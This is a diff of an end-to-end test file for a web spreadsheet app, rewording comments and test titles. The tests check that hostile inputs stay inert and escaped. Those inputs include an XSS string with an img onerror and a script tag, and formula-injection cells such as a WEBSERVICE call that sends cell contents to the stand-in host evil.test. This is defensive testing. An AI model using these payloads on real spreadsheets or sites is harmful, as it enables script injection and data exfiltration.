@@ -8,7 +8,7 @@ import { makeRows } from "./kit/rows.ts";
 import { expect, register, test } from "./kit/test.ts";
 
 const script = `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
-/** What reaches out, runs or never ends elsewhere, and what is said of it here. */
+/** Cells that send requests, run commands or never finish in other programs, and the errors they show here. */
 const hostileCells = [
   '=WEBSERVICE("https://evil.test/?"&A1)',
   '=IMAGE("https://evil.test/x.png")',
@@ -24,7 +24,7 @@ const hostileCells = [
 const saved = (page: Page) => page.getByRole("status").filter({ hasText: /^Saved$/ });
 const grid = (page: Page) => page.locator("canvas").first();
 
-/** Notes what a page must not do: ask other hosts, open others or run a script that stands in a cell. */
+/** Records forbidden actions of a page: requests to other hosts, new windows, or running a script from a cell. */
 async function watch(page: Page) {
   const done: string[] = [];
   const home = new URL(process.env.VANDA_URL ?? "").host;
@@ -48,7 +48,7 @@ async function openNew(page: Page) {
   await grid(page).click({ position: { x: 80, y: 40 }, force: true });
 }
 
-/** The worksheet that is open, as its CSV file. */
+/** Returns the open worksheet, as exported to CSV. */
 async function downloaded(page: Page) {
   const file = page.waitForEvent("download");
   await page.getByRole("button", { name: "Download", exact: true }).click();
@@ -60,7 +60,7 @@ async function downloaded(page: Page) {
   return data.map(([first]) => first?.replace("\ufeff", ""));
 }
 
-test("hostile formulas and texts run nothing, ask no other host, and are saved, opened and undone like others @deep", async ({
+test("hostile formulas and texts run nothing, send no request, and are saved, opened and undone like others @deep", async ({
   page,
 }) => {
   const whatItDid = await watch(page);
@@ -83,7 +83,7 @@ test("hostile formulas and texts run nothing, ask no other host, and are saved, 
   expect(await whatItDid()).toEqual([]);
 });
 
-test("keys that come faster than the page draws are all there, and unsaved until their cell is left and saved @deep", async ({
+test("keys typed faster than the page renders are all kept, and unsaved until their cell is left and saved @deep", async ({
   page,
 }) => {
   await openNew(page);
@@ -92,7 +92,7 @@ test("keys that come faster than the page draws are all there, and unsaved until
   await expect(saved(page)).toBeVisible();
   await page.keyboard.type("x");
   await expect(page.getByRole("status").filter({ hasText: "Not saved yet" })).toBeVisible();
-  // As a key that is held on a slow machine: each comes before what the one before it left to do later.
+  // Like a key held down on a slow machine: each event arrives before the deferred work of the one before.
   await page.evaluate(async () => {
     for (let keys = 0; keys < 100; keys += 1) {
       document.activeElement?.dispatchEvent(new KeyboardEvent("keydown", { key: "x", bubbles: true }));
@@ -106,15 +106,15 @@ test("keys that come faster than the page draws are all there, and unsaved until
   expect(await downloaded(page)).toEqual(["kept", "x".repeat(101)]);
 });
 
-test.describe("an engine that breaks", () => {
+test.describe("when the engine crashes", () => {
   test.use({ allowedConsole: /memory access out of bounds/ });
 
-  test("is said so, and what was saved before is there again @deep", async ({ page }) => {
+  test("an error is shown, and the last saved content is restored @deep", async ({ page }) => {
     await openNew(page);
     await page.keyboard.type("kept");
     await page.keyboard.press("Enter");
     await expect(saved(page)).toBeVisible();
-    // As a formula does that calls itself without end; some browsers end the whole page then.
+    // Like infinite recursion in a formula, for which some browsers end the whole page.
     await page.evaluate(() =>
       setTimeout(() => {
         throw new WebAssembly.RuntimeError("memory access out of bounds");
@@ -126,7 +126,7 @@ test.describe("an engine that breaks", () => {
   });
 });
 
-test("a file whose formulas calculate for ever is left alone after a minute, and the page goes on meanwhile @deep", async ({
+test("opening a file whose formulas never finish is aborted after a minute, and the page stays responsive @deep", async ({
   page,
 }) => {
   await page.clock.install();
@@ -149,7 +149,7 @@ test("a file whose formulas calculate for ever is left alone after a minute, and
   await ended;
 });
 
-test("records and views with hostile names are text in a live list, of which no more is read than fits @deep", async ({
+test("records and views with hostile names are plain text in a live list, which reads no more rows than fit @deep", async ({
   page,
 }) => {
   const whatItDid = await watch(page);
@@ -180,7 +180,7 @@ test("records and views with hostile names are text in a live list, of which no 
   await expect(list).toBeHidden({ timeout: 60_000 });
   await expect(saved(page)).toBeVisible({ timeout: 60_000 });
   const rows = await downloaded(page);
-  // As texts, which no other spreadsheet takes for formulas either.
+  // Escaped as text, so that no other spreadsheet reads them as formulas either.
   expect(rows).toEqual(expect.arrayContaining([script, ...names.slice(1).map((name) => `'${name}`)]));
   expect(rows).toHaveLength(5_001);
   expect(await whatItDid()).toEqual([]);
